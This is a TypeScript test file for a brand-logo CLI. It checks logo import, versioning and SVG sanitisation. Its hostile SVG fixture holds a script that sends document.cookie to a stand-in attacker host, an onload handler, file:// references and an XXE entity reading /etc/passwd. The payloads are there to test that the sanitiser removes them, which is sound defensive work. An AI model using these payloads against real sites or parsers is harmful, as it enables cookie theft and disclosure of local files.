import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { PDFDocument, rgb } from 'pdf-lib';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { sanitizeSvg } from '../../../electron/core/brands/logo-file';
import { stopEvidenceWorker } from '../../../electron/core/ingest/collect-evidence';
import type { LogoView } from '../../../shared/ipc';
import { Brand } from '../../../shared/schema';
import { drawLogo, logoDesign, logoPng, logoSvg } from '../../fixtures/logos/logo';
import { createRng } from '../../fixtures/pdf/corpus/rng';
import { runCli } from '../../support/cli';

const LEGACY = path.resolve(import.meta.dirname, '../../fixtures/brands/mobius-legacy-brand.json');
const design = logoDesign(createRng(7), 'Northwind', { symbol: '#6F4E37', inner: '#FFFFFF', word: '#2B2B2B' });

/** An SVG logo with everything a hostile file might carry around the real drawing. */
function hostileSvg(secretPath: string): string {
  const clean = logoSvg(drawLogo(design));
  return clean
    .replace('<svg ', '<svg onload="alert(1)" ')
    .replace(
      '</svg>',
      `<script>fetch('http://attacker.invalid/'+document.cookie)</script>` +
        `<image href="file://${secretPath}" width="50" height="50"/>` +
        `<use xlink:href="http://attacker.invalid/sprite.svg#x"/>` +
        `<style>@import url(http://attacker.invalid/a.css); .a { fill: url(http://attacker.invalid/p) }</style>` +
        `<foreignObject><div xmlns="http://www.w3.org/1999/xhtml">hi</div></foreignObject></svg>`,
    );
}

/** A PDF whose first page shows the logo (a designer's export), on a page larger than it. */
async function logoPdf(): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  const page = doc.addPage([400, 300]);
  const drawing = drawLogo(design);
  const scale = 200 / drawing.width;
  for (const part of drawing.parts) {
    const n = Number.parseInt(part.fill.slice(1), 16);
    page.drawSvgPath(part.d, { x: 100, y: 200, scale, color: rgb(((n >> 16) & 255) / 255, ((n >> 8) & 255) / 255, (n & 255) / 255), borderWidth: 0 });
  }
  return doc.save();
}

describe('a brand’s logo files, edited by a designer (CLI over the brand service)', () => {
  let dir: string;
  let dataDir: string;
  let brandId: string;
  const cli = (...args: string[]) => runCli([...args, '--data-dir', dataDir]);
  const logos = async () => JSON.parse((await cli('brand', 'logos', brandId, '--json')).stdout) as LogoView[];

  beforeAll(async () => {
    dir = mkdtempSync(path.join(tmpdir(), 'mobius-logo-cli-'));
    dataDir = path.join(dir, 'data');
    const imported = await cli('brand', 'import', LEGACY, '--json');
    brandId = Brand.parse(JSON.parse(imported.stdout)).brand_id;
  });

  afterAll(async () => {
    await stopEvidenceWorker();
    rmSync(dir, { recursive: true, force: true });
  });

  it('strips scripts, handlers, foreign content and outside references from an SVG before drawing it', () => {
    const clean = sanitizeSvg(hostileSvg('/etc/passwd'));
    for (const gone of ['<script', 'onload', 'file://', 'attacker.invalid', '@import', 'foreignObject']) expect(clean).not.toContain(gone);
    expect(clean).toContain('<path d=');
    expect(() => sanitizeSvg('<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>')).toThrow(/entities/);
  });

  it('adds SVG, PNG and PDF logos, chooses the one in use and removes a wrong one — each a new version', async () => {
    expect(await logos()).toEqual([]);
    const svg = path.join(dir, 'northwind.svg');
    writeFileSync(svg, hostileSvg(path.join(dir, 'secret.txt')));
    const added = await cli('brand', 'logo', 'add', brandId, svg, '--json');
    expect(added.code, added.stderr).toBe(0);
    let list = await logos();
    expect(list).toHaveLength(1);
    expect(list[0]).toMatchObject({ variant: 'primary', in_use: true, verified: true, page: null, source: 'user' });

    // The stored file is a PNG of the drawing, its long side bounded.
    const show = Brand.parse(JSON.parse((await cli('brand', brandId, '--json')).stdout));
    const url = show.guidelines.logos.find((l) => l.url.startsWith('mobius-asset://'))!.url;
    const file = path.join(dataDir, 'files', url.slice('mobius-asset://files/'.length, 'mobius-asset://files/'.length + 2), url.slice('mobius-asset://files/'.length));
    const meta = await sharp(file).metadata();
    expect(meta.format).toBe('png');
    expect(Math.max(meta.width!, meta.height!)).toBe(1024);
    expect(meta.width! / meta.height!).toBeCloseTo(drawLogo(design).width / drawLogo(design).height, 1);
    expect(show.compressed_twin?.logo_files).toEqual([{ variant: 'primary', url }]);

    const png = path.join(dir, 'northwind-white.png');
    writeFileSync(png, await logoPng(drawLogo(design, 'reversed'), 300));
    expect((await cli('brand', 'logo', 'add', brandId, png, '--variant', 'reversed')).code).toBe(0);
    const pdf = path.join(dir, 'northwind.pdf');
    writeFileSync(pdf, await logoPdf());
    const fromPdf = await cli('brand', 'logo', 'add', brandId, pdf, '--json');
    expect(fromPdf.code, fromPdf.stderr).toBe(0);
    list = await logos();
    expect(list.map((l) => [l.variant, l.in_use])).toEqual([
      ['primary', true],
      ['primary', false],
      ['reversed', true],
    ]);
    // The PDF's page is trimmed to the drawing: its proportions, not the page's.
    const pdfLogo = list[0]!;
    const pdfBrand = Brand.parse(JSON.parse((await cli('brand', brandId, '--json')).stdout));
    const pdfUrl = pdfBrand.guidelines.logos.find((l) => l.url.includes(pdfLogo.id))!.url;
    const name = pdfUrl.slice('mobius-asset://files/'.length);
    const pdfMeta = await sharp(path.join(dataDir, 'files', name.slice(0, 2), name)).metadata();
    expect(pdfMeta.width! / pdfMeta.height!).toBeCloseTo(drawLogo(design).width / drawLogo(design).height, 1);

    // Choose the SVG logo back as the primary, then remove the PDF one.
    const svgLogo = list[1]!;
    expect((await cli('brand', 'logo', 'use', brandId, svgLogo.id, '--variant', 'primary')).code).toBe(0);
    expect((await logos()).find((l) => l.in_use && l.variant === 'primary')?.id).toBe(svgLogo.id);
    const removed = await cli('brand', 'logo', 'remove', brandId, pdfLogo.id);
    expect(removed.code).toBe(0);
    expect(removed.stdout).toContain(`Removed logo ${pdfLogo.id}`);
    expect((await logos()).map((l) => l.id)).toEqual([svgLogo.id, list[2]!.id]);

    const versions = JSON.parse((await cli('brand', 'versions', brandId, '--json')).stdout) as { version: number; note: string }[];
    expect(versions.map((v) => v.note).slice(-5)).toEqual([
      'Logo northwind.svg added as primary',
      'Logo northwind-white.png added as reversed (on dark)',
      'Logo northwind.pdf added as primary',
      `Logo ${svgLogo.id} chosen as primary`,
      `Logo ${pdfLogo.id} removed`,
    ]);
  }, 60_000);

  it('refuses what is not a logo, and a logo id the brand does not have', async () => {
    const bogus = path.join(dir, 'notes.svg');
    writeFileSync(bogus, 'just some text');
    const refused = await cli('brand', 'logo', 'add', brandId, bogus);
    expect(refused.code).toBe(1);
    expect(refused.stderr).toMatch(/not an SVG|could not be read/);
    const missing = await cli('brand', 'logo', 'remove', brandId, 'deadbeef0000');
    expect(missing.code).toBe(1);
    expect(missing.stderr).toContain('has no logo "deadbeef0000"');
    const badVariant = await cli('brand', 'logo', 'add', brandId, bogus, '--variant', 'sideways');
    expect(badVariant.code).toBe(2);
  });
});
